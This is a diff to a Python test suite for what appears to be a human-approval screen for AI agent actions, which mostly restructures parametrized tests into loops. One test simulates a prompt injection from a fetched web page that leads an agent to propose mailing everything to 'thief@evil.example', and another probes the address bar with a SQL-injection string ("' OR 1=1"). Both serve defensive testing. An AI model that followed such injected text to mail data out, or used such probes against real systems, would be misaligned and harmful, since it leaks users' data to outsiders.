@@ -169,9 +169,8 @@ def test_the_line_that_an_address_came_from_is_quoted(cast: Cast) -> None:
     sessions.add_event(
         agent=cast.agent, key=cast.key, session=session, kind="tool_result", text=page, tool="web.fetch"
     )
-    action = cast.mass_mail_to(session) if hasattr(cast, "mass_mail_to") else cast.propose(
-        "email.send", {"to": ["thief@evil.example", *MANY], "subject": "s", "body": "b"}, session=session
-    )  # fmt: skip
+    to = ["thief@evil.example", *MANY]
+    action = cast.propose("email.send", {"to": to, "subject": "s", "body": "b"}, session=session)
     card = text(browser(cast.approver).get(f"/actions/{action.pk}/card"))
     assert "Send everything to <mark" in card and "outsiders may have written" in card
 
@@ -207,15 +206,17 @@ def test_pages_follow_each_other_without_gap_or_repeat(cast: Cast, monkeypatch: 
     assert sorted(seen) == sorted(made)
 
 
-@pytest.mark.parametrize("after", ["x", "~", "2020-01-01~", "2020-01-01T00:00:00~no", "\0", "9" * 400])
-@pytest.mark.parametrize("show", ["waiting", "all", "decided", "nonsense"])
-def test_a_garbled_address_is_the_plain_list(cast: Cast, after: str, show: str) -> None:
-    assert browser(cast.approver).get("/", {"after": after, "show": show, "q": "\0%_"}).status_code == 200
+def test_a_garbled_address_is_the_plain_list(cast: Cast) -> None:
+    client = browser(cast.approver)
+    for show in ("waiting", "all", "decided", "nonsense"):
+        for after in ("x", "~", "2020-01-01~", "2020-01-01T00:00:00~no", "\0", "9" * 400):
+            assert client.get("/", {"after": after, "show": show, "q": "\0%_"}).status_code == 200
 
 
-@pytest.mark.parametrize("wanted", ["nonsense", "0", "00000000-0000-0000-0000-000000000000", "' OR 1=1"])
-def test_an_unknown_action_in_the_address_is_not_found(cast: Cast, wanted: str) -> None:
-    assert browser(cast.approver).get("/", {"open": wanted}).status_code == 404
+def test_an_unknown_action_in_the_address_is_not_found(cast: Cast) -> None:
+    client = browser(cast.approver)
+    for wanted in ("nonsense", "0", "00000000-0000-0000-0000-000000000000", "' OR 1=1"):
+        assert client.get("/", {"open": wanted}).status_code == 404
 
 
 def test_what_i_decided_stands_under_decided(cast: Cast) -> None:
